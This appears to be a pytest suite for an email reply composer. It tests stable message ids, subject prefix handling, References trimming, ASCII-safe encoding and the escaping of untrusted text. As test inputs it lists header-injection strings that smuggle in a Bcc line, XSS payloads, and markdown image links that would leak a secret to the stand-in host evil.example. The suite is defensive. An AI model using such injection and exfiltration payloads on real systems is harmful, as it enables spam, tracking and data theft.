"""What a reply looks like: headers that no text can break out of, a body that loads nothing."""

import email
import email.policy
import html
from email.message import EmailMessage

import pytest

from connectors.email.compose import compose, references, reply_subject
from connectors.email.ids import is_hub_message_id, is_own_message_id, message_id, own_message_ids
from connectors.email.phrases import PHRASES
from hub.errors import DeliveryRefused
from hub.messages import Address, OutboundMessage, Source
from tests.connectors.email.edges import account

ACCOUNT = account("hub@example.org", 1)


def _reply(text: str = "Yes.", **more: object) -> OutboundMessage:
    values: dict[str, object] = {
        "reply_id": "7-0:0",
        "turn": "7-0",
        "conversation": "email-1",
        "address": Address(
            connector="email", account="hub@example.org", chat="jane@example.net", person="email-1"
        ),
        "text": text,
        "reply": {"to": "jane@example.net", "message_id": "<q@x>", "subject": "Q", "name": "Jane Doe"},
        "question": "Is it?",
    }
    return OutboundMessage.model_validate(values | more)


def _parsed(reply: OutboundMessage) -> EmailMessage:
    mail = email.message_from_bytes(compose(reply, ACCOUNT).raw, policy=email.policy.default)
    assert isinstance(mail, EmailMessage)
    return mail


def _body(mail: EmailMessage, kind: str) -> str:
    part = mail.get_body((kind,))
    assert part is not None
    return str(part.get_content()).replace("\r\n", "\n")


def test_reply_is_the_same_at_every_attempt() -> None:
    """Whoever sends it again sends the same bytes."""
    reply = _reply()

    assert compose(reply, ACCOUNT) == compose(reply, ACCOUNT)
    assert compose(reply, ACCOUNT).message_id == message_id("7-0:0", "HUB@example.org")
    assert message_id("7-0:0", "hub@example.org") != message_id("7-0:1", "hub@example.org")


def test_reply_says_that_a_machine_wrote_it() -> None:
    """Other machines are asked to be silent."""
    mail = _parsed(_reply())

    assert mail["Auto-Submitted"] == "auto-replied"
    assert mail["X-Auto-Response-Suppress"] == "All"
    assert mail["X-Hub-Loop"] == "hubbub"
    assert mail["From"] == "Test Hub <hub@example.org>"
    assert mail["Date"]


@pytest.mark.parametrize("field", ["subject", "name", "message_id", "references", "date", "to", "language"])
@pytest.mark.parametrize(
    "poison", ["a\r\nBcc: all@example.org", "a\nBcc: all@example.org", "a\0b\rBcc: x@y", "x" * 5000]
)
def test_no_value_breaks_out_of_its_header(field: str, poison: str) -> None:
    """Line breaks end nothing, endless values are cut."""
    reply = _reply()
    poisoned = reply.model_copy(update={"reply": reply.reply | {field: poison}})
    try:
        mail = _parsed(poisoned)
    except DeliveryRefused:
        assert field == "to"
        return

    assert mail["Bcc"] is None
    assert mail["To"] == "jane@example.net" if field != "to" else True
    assert len(mail.get_all("Subject", [])) == 1
    assert all(len(line) <= 998 for line in compose(poisoned, ACCOUNT).raw.split(b"\r\n"))


@pytest.mark.parametrize(
    ("subject", "expected"),
    [
        ("", "Re: your message"),
        ("Q", "Re: Q"),
        ("Re: Q", "Re: Q"),
        ("RE: re: AW: Q", "Re: Q"),
        ("Re[2]: Q", "Re: Q"),
        ("Regarding: Q", "Re: Regarding: Q"),
        ("SV: VS: Antw: Odp: RIF: Res: YNT: Q", "Re: Q"),
        ("Re(2): re^3: Q", "Re: Q"),
        ("回复：答复: Q", "Re: Q"),
        ("Отв: رد: Q", "Re: Q"),
        ("RE : Q", "Re: Q"),
        ("Re: Fwd: Q", "Re: Fwd: Q"),
        ("Fwd: Re: Q", "Re: Fwd: Re: Q"),
        ("Rent: Q", "Re: Rent: Q"),
        ("x" * 600, "Re: " + "x" * 496),
    ],
)
def test_subject_has_one_re(subject: str, expected: str) -> None:
    """However often it went back and forth."""
    assert reply_subject(subject) == expected


def test_references_keep_the_first_and_the_newest() -> None:
    """Twenty at most, and the thread's root is among them."""
    earlier = [f"<{n}@x>" for n in range(20)]

    ids = references(" ".join(earlier), "<new@x>")

    assert len(ids) == 20
    assert (ids[0], ids[-1], ids[1]) == ("<0@x>", "<new@x>", "<2@x>")


def test_long_threads_keep_their_first_id() -> None:
    """Of 3,000 ids the one that began the thread and the 19 newest are left."""
    earlier = " ".join(f"<{n}@x>" for n in range(3000))

    ids = references(earlier, "<new@x>")

    assert (len(ids), ids[0], ids[1], ids[-1]) == (20, "<0@x>", "<2982@x>", "<new@x>")


def test_long_ids_are_not_encoded() -> None:
    """Ids longer than a line go out as they came in."""
    ids = [f"<{n}{'x' * 150}@example.net>" for n in range(5)]
    reply = _reply(reply={"to": "jane@example.net", "message_id": ids[-1], "references": " ".join(ids[:-1])})

    raw = compose(reply, ACCOUNT).raw

    assert b"=?" not in raw.partition(b"\r\n\r\n")[0]
    assert _parsed(reply)["References"].split() == ids


def test_sources_are_numbered_below_the_answer() -> None:
    """A reader finds what the answer rests on, in both versions."""
    source = Source(
        number=1, title="Manual", location="docs/manual.md", heading="Ports", quote="It is <8080>.", score=0.9
    )
    mail = _parsed(_reply("It is 8080 [1].", sources=(source,)))

    assert '[1] Manual, Ports (docs/manual.md)\n    "It is <8080>."' in _body(mail, "plain")
    assert "It is &lt;8080&gt;." in _body(mail, "html")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/?q=secret",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "<style>p{display:none}</style>",
        '<a href="https://x" onclick="alert(1)">x</a>',
    ],
)
def test_html_version_is_harmless(text: str) -> None:
    """Nothing runs, nothing loads, nothing hides."""
    rich = _body(_parsed(_reply(f"Before\n\n{text}\n\nAfter")), "html")

    assert "After" in rich
    for bad in ("<script", "<img", 'href="javascript', 'href="data', "<style", '<a href="https://x" onclick'):
        assert bad not in rich
    if text.startswith("!"):
        assert "src=" not in rich


def test_question_is_quoted_without_markup() -> None:
    """What the person wrote comes back as text."""
    mail = _parsed(_reply(question="<b>one</b>\ntwo"))

    assert "> <b>one</b>\n> two" in _body(mail, "plain")
    assert "&lt;b&gt;one&lt;/b&gt;<br>two" in _body(mail, "html")


@pytest.mark.parametrize(
    ("name", "greeting"), [("Jane Doe", "Hello Jane Doe,"), ("", "Hello,"), ("http://evil.example/", "Hello,"), ("Jörg", "Hello Jörg,")]
)  # fmt: skip
def test_greeting_uses_only_a_plain_name(name: str, greeting: str) -> None:
    """A name that carries a link is not repeated."""
    assert _body(_parsed(_reply(reply={"to": "jane@example.net", "name": name})), "plain").startswith(
        greeting
    )


@pytest.mark.parametrize("language", PHRASES)
def test_reply_speaks_the_senders_language(language: str) -> None:
    """Greeting, sources, attribution and footer; the answer is the engine's, and the footer says how to stop."""
    source = Source(number=1, title="Manual", location="docs/manual.md", quote="It is 8080.", score=0.9)
    says = PHRASES[language]
    values = {
        "to": "jane@example.net",
        "name": "Jane",
        "language": language,
        "date": "Sat, 21 Nov 2026 10:00:00 +0100",
    }
    mail = _parsed(_reply("It is 8080 [1].", sources=(source,), reply=values))

    assert mail["Subject"] == f"Re: {says.your_message}"
    assert mail["Content-Language"] == language
    for kind in ("plain", "html"):
        body = _body(mail, kind)
        assert says.hello_name.format(name="Jane") in body
        assert f"{says.sources}" in body
        assert says.wrote_at.format(date="2026-11-21 10:00") in html.unescape(body)
        assert says.how_to_stop in html.unescape(body)
    assert (f'<p dir="rtl">{says.hello_name.format(name="Jane")}' in _body(mail, "html")) == (
        language == "ar"
    )


def test_notice_does_not_offer_what_was_just_done() -> None:
    """The confirmation of STOP says how to start, not how to stop."""
    reply = _reply(PHRASES["en"].stopped, kind="notice")
    mail = _parsed(reply.model_copy(update={"reply": reply.reply | {"notice": "stopped"}}))

    assert PHRASES["en"].how_to_stop not in _body(mail, "plain")
    assert "Write START" in _body(mail, "plain")


@pytest.mark.parametrize("recipient", ["", "not an address", "a@b, c@d"])
def test_unusable_address_is_refused(recipient: str) -> None:
    """Repeating cannot help."""
    reply = _reply(reply={"to": recipient})
    with pytest.raises(DeliveryRefused):
        compose(reply.model_copy(update={"address": reply.address.model_copy(update={"chat": ""})}), ACCOUNT)


def test_own_message_ids_are_known() -> None:
    """A mail of ours that comes back is recognised whatever its other headers say."""
    own = message_id("7-0:0", "hub@example.org")

    assert is_own_message_id(own, ["hub@example.org"])
    assert not is_own_message_id(own, ["hub@example.com"])
    assert not is_own_message_id("<a@example.org>", ["hub@example.org"])
    assert not is_own_message_id(f"{own} x", ["hub@example.org"])
    assert own_message_ids([f"Re: {own}, {own}", "<x@y>"], ["hub@example.org"]) == [own]
    assert is_hub_message_id(own)
    assert not is_hub_message_id("<hub.1@example.org>")


def test_everything_travels_in_seven_bits() -> None:
    """No server on the way has a reason to change the mail."""
    raw = compose(_reply("Größe 你好 " * 200, question="Ä" * 5000), ACCOUNT).raw

    assert raw.isascii()
    assert all(len(line) <= 998 for line in raw.split(b"\r\n"))
    assert b"\n" not in raw.replace(b"\r\n", b"")
